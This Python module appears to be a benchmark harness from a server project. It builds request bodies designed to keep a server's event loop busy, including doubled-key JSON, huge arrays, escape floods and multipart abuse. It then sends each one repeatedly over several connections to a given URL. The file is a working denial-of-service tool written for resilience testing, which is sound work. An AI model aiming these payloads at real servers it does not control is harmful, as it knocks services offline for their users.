"""Requests that are meant to keep a server's event loop busy, and the process that sends them.

    python -m bench.hostile URL NAME [--connections 4] [--seconds 5]

Each was seen to stop a server for seconds or minutes. A connection sends its request, waits for the answer and sends it
again; one that is closed is opened anew.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import os
import time
from collections.abc import Callable, Mapping
from typing import NamedTuple
from urllib.parse import urlsplit

import uvloop

JSON = "application/json"
FORM = "multipart/form-data; boundary=x"
MIB = 1 << 20


class Attack(NamedTuple):
    """A request: its path, its content type, its body."""

    path: str
    kind: str
    body: bytes


def form(*parts: tuple[str, bytes], kind: str = FORM) -> tuple[str, bytes]:
    """(content type, body) of a form with these fields."""
    lines = (b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (name.encode(), text)
             for name, text in parts)
    return kind, b"".join(lines) + b"--x--\r\n"


def doubled_key(size: int) -> bytes:
    """An object of about so many bytes whose last key stands there twice."""
    count = size // 10
    keys = ",".join(f'"k{number}":1' for number in range(count))
    return f'{{{keys},"k{count - 1}":1}}'.encode()


def honest(size: int) -> bytes:
    """A JSON request with so many bytes of image."""
    return b'{"model":"echo","image":"' + base64.b64encode(os.urandom(size)) + b'"}'


ATTACKS: Mapping[str, Callable[[], Attack]] = {
    "a key doubled, 660 KB": lambda: Attack("/jobs", JSON, doubled_key(660_000)),
    "zeros, 8 MB": lambda: Attack("/jobs", JSON, b"[" + b"0," * (4 * MIB) + b"0]"),
    "empty objects, 8 MB": lambda: Attack("/v1/images/generations", JSON, b"[" + b"{}," * (8 * MIB // 3) + b"0]"),
    "escapes, 30 MB": lambda: Attack("/jobs", JSON, b'{"model":"echo","image":"' + rb"\/" * (15 * MIB) + b'"}'),
    "honest base64, 45 MB": lambda: Attack("/jobs", JSON, honest(33 * MIB)),
    "params of 250 KB": lambda: Attack("/jobs", *form(("model", b"echo"), ("params", doubled_key(250_000)))),
    "charset=punycode": lambda: Attack("/edit", *form(("prompt", b"a" * 500_000), kind=f"{FORM}; charset=punycode")),
    "almost boundaries, 30 MB": lambda: Attack("/edit", *form(("image", b"\r\n--" * (8 * MIB)))),
    "many parts": lambda: Attack("/edit", *form(*(("p", b"") for _ in range(200_000)))),
}  # fmt: skip


class Sender:
    """The connections of one attack."""

    def __init__(self, url: str, attack: Attack, until: float) -> None:
        parts = urlsplit(url)
        self.host, self.port, self.until = parts.hostname, parts.port, until
        self.head = (
            f"POST {attack.path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nContent-Type: {attack.kind}\r\n"
            f"Content-Length: {len(attack.body)}\r\n\r\n"
        ).encode()
        self.body = attack.body
        self.answers: dict[str, int] = {}

    async def go(self) -> None:
        """One connection's."""
        while time.monotonic() < self.until:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
                async with asyncio.timeout(max(0.1, self.until - time.monotonic())):
                    await self._send()

    async def _send(self) -> None:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        try:
            writer.write(self.head)
            sending = asyncio.create_task(self._write(writer))
            status = (await reader.readline()).split(b" ")[1:2]
            sending.cancel()
            name = status[0].decode() if status else "closed"
            self.answers[name] = self.answers.get(name, 0) + 1
        finally:
            writer.transport.abort()

    async def _write(self, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            for begin in range(0, len(self.body), MIB):
                writer.write(self.body[begin : begin + MIB])
                await writer.drain()


async def send(url: str, name: str, connections: int, seconds: float) -> dict[str, int]:
    """How often each status was answered."""
    sender = Sender(url, ATTACKS[name](), time.monotonic() + seconds)
    await asyncio.gather(*(sender.go() for _ in range(connections)))
    return sender.answers


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=5.0)
    given = parser.parse_args()
    print(uvloop.run(send(given.url, given.name, given.connections, given.seconds)))


if __name__ == "__main__":
    main()
